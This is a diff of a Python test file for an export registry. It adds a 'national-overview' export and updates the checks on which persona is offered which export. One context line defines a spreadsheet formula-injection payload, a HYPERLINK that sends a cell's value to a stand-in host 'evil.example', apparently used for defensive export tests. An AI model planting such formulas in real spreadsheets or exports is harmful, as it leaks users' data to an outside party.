@@ -32,7 +32,12 @@ ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
 def test_the_existing_exports_are_registered_once_each() -> None:
-    assert [e.identifier for e in registry] == ["benchmark-audit", "campaign-reach", "hub-reach"]
+    assert [e.identifier for e in registry] == [
+        "benchmark-audit",
+        "campaign-reach",
+        "hub-reach",
+        "national-overview",
+    ]
     for export in registry:
         assert export.verbose_name and export.scope in Scope
         assert set(export.url_names) == set(export.formats), export.identifier
@@ -81,10 +86,16 @@ def test_who_is_offered_what(world: Any) -> None:
     def offered(persona: str) -> set[str]:
         return {export.identifier for export, _ in registry.available_to(world.persona(persona))}
 
-    assert offered("admin") == {"benchmark-audit", "campaign-reach", "hub-reach"}
+    assert offered("admin") == {
+        "benchmark-audit",
+        "campaign-reach",
+        "hub-reach",
+        "national-overview",
+    }
     assert offered("facilitator") == {"benchmark-audit", "campaign-reach", "hub-reach"}
     assert offered("lead") == offered("teacher") == {"benchmark-audit"}
     assert offered("volunteer") == offered("coordinator") == set()
+    assert offered("national") == {"national-overview"}
 
 
 @pytest.fixture
